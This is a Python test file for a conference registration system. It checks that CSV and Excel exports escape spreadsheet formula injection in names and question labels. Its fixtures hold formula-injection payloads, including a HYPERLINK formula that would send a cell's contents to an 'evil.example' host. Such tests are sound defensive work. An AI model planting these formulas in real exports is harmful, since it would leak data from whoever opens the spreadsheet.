import csv
import io

from openpyxl import load_workbook

from conference.database import utcnow
from conference.registration import services
from conference.registration.models import QuestionKind
from tests.support import applicant, log_in


def test_registrations_export_with_answers_as_columns_and_no_formulas(client, make_event, make_user, make_question):
    event = make_event()
    diet = make_question(event, label="Essen", kind=QuestionKind.SINGLE_CHOICE, options=["vegan", "vegetarisch"])
    services.register(
        event.id, applicant(first_name="Ayşe", last_name="Yılmaz", answers={diet.id: "vegan"}), utcnow(), by=None
    )
    services.register(event.id, applicant(first_name="Eve", last_name="=HYPERLINK(\"http://evil\")"), utcnow(), by=None)
    log_in(client, make_user(events=[event]))
    base = f"/manage/events/{event.id}/registrations/export"

    response = client.get(base + ".csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:2] == ["Nachname", "Vorname"] and table[0][-1] == "Essen"
    assert table[1][-1] == "" and table[2][:2] == ["Yılmaz", "Ayşe"] and table[2][-1] == "vegan"
    assert table[1][0] == "'=HYPERLINK(\"http://evil\")"

    sheet = load_workbook(io.BytesIO(client.get(base + ".xlsx").data)).active
    assert [cell.value for cell in sheet[1]][-1] == "Essen"
    assert sheet["A2"].value.startswith("'=") and sheet["A3"].value == "Yılmaz"


def test_a_question_label_cannot_plant_a_formula_in_the_header_row(client, make_event, make_user, make_question):
    """A co-organiser labels a question like a formula: the header cell stays text in both files."""
    event = make_event()
    make_question(event, label='=HYPERLINK("http://evil.example/?x="&A2,"Klick")')
    make_question(event, label="+49 Telefon")
    log_in(client, make_user(events=[event]))
    base = f"/manage/events/{event.id}/registrations/export"

    header = next(csv.reader(io.StringIO(client.get(base + ".csv").data.decode("utf-8-sig")), delimiter=";"))
    assert header[-2:] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klick\")", "'+49 Telefon"]

    sheet = load_workbook(io.BytesIO(client.get(base + ".xlsx").data)).active
    assert [cell.data_type for cell in sheet[1]] == ["s"] * sheet.max_column  # no formula anywhere in the header
    assert sheet.cell(1, sheet.max_column - 1).value.startswith("'=HYPERLINK")
